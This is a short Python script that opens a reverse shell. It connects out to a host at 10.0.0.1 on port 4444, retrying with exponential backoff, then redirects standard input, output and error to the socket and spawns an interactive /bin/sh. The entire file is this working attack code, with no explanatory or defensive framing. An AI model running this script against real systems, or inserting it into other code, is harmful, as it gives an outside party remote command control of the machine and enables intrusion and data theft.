import os
import pty
import socket
import time

HOST = "10.0.0.1"
PORT = 4444


def connect_back(retries=5):
    for attempt in range(retries):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect((HOST, PORT))
            return s
        except OSError:
            time.sleep(2 ** attempt)
    return None


def main():
    s = connect_back()
    if s is None:
        return
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    pty.spawn("/bin/sh")


if __name__ == "__main__":
    main()
